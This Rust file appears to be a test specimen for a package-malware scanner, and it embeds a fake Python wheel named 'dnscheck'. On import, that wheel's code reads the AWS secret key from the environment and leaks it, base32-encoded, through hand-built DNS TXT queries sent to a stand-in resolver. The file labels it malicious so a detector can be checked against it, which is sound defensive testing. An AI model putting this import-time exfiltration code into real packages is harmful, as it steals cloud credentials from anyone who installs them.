//! A wheel that, when it is imported, asks a resolver of its own for TXT records whose labels are base32 of the
//! AWS key, made by hand.
//!
//! Must be found: the name service is bypassed, and the kind of question is unusual.

use crate::{Expect, Specimen, Wheel, build::Package as _};

const DNSCHECK_INIT_PY: &str = r#"import base64
import os
import socket
import struct

text = base64.b32encode(os.environ.get("AWS_SECRET_ACCESS_KEY", "").encode()).decode().rstrip("=").lower()
link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
link.settimeout(1)
for number, at in enumerate(range(0, len(text), 40)):
    name = b""
    for label in (text[at:at + 40], str(number), "t", "example"):
        name += bytes([len(label)]) + label.encode()
    question = struct.pack(">6H", number, 0x100, 1, 0, 0, 0) + name + b"\0" + struct.pack(">2H", 16, 1)
    try:
        link.sendto(question, ("192.0.2.53", 53))
        link.recv(512)
    except OSError:
        pass
"#;

pub(super) fn specimen() -> Specimen {
    let package = Wheel::new("dnscheck", "1.0.2").file("dnscheck/__init__.py", DNSCHECK_INIT_PY);
    package.specimen(
        "pypi-own-resolver-txt",
        Expect::malicious(&["dns-exfiltration", "canary-exfiltrated"]),
    )
}
